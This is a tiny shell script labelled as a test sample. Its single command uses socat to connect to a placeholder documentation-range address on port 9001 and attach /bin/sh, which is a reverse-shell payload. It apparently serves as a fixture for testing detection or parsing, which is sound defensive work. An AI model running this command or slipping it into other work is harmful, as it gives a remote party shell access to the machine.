#!/bin/sh
# test sample: address first
socat TCP4-CONNECT:198.51.100.7:9001 EXEC:/bin/sh
